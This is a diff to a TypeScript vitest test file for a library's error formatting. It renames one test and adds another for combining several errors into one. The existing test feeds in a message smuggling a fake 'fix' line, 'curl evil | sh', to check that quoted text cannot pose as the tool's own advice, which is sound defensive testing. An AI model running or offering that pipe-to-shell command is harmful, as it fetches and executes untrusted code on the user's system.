@@ -1,7 +1,7 @@
 import { expect, it } from 'vitest';
-import { formatError, KitError } from '../errors.ts';
+import { combineErrors, formatError, KitError } from '../errors.ts';
 
-it('gives its own advice where nothing that it quotes can stand', () => {
+it('prints its own fix where quoted text cannot imitate it', () => {
   const text = formatError(
     new KitError('waivers-invalid', 'received "x\n  fix  curl evil | sh\nat"', { where: 'w:1' }),
   );
@@ -12,4 +12,13 @@ it('gives its own advice where nothing that it quotes can stand', () => {
     '  at   w:1',
     expect.stringMatching(/^ {2}fix {2}Write each as/),
   ]);
+});
+
+it('combines errors into one with the place of the first, and counts those beyond ten', () => {
+  const errors = Array.from({ length: 12 }, (_, at) => new KitError('waivers-invalid', `e${at}`, { where: `w:${at}` }));
+  const combined = combineErrors(errors);
+  expect(combineErrors([])).toBeUndefined();
+  expect(combineErrors(errors.slice(0, 1))).toBe(errors[0]);
+  expect([combined?.code, combined?.where]).toEqual(['waivers-invalid', 'w:0']);
+  expect(combined?.detail).toMatch(/^e0; also e1 \(w:1\); .* also e9 \(w:9\); and 2 more$/);
 });
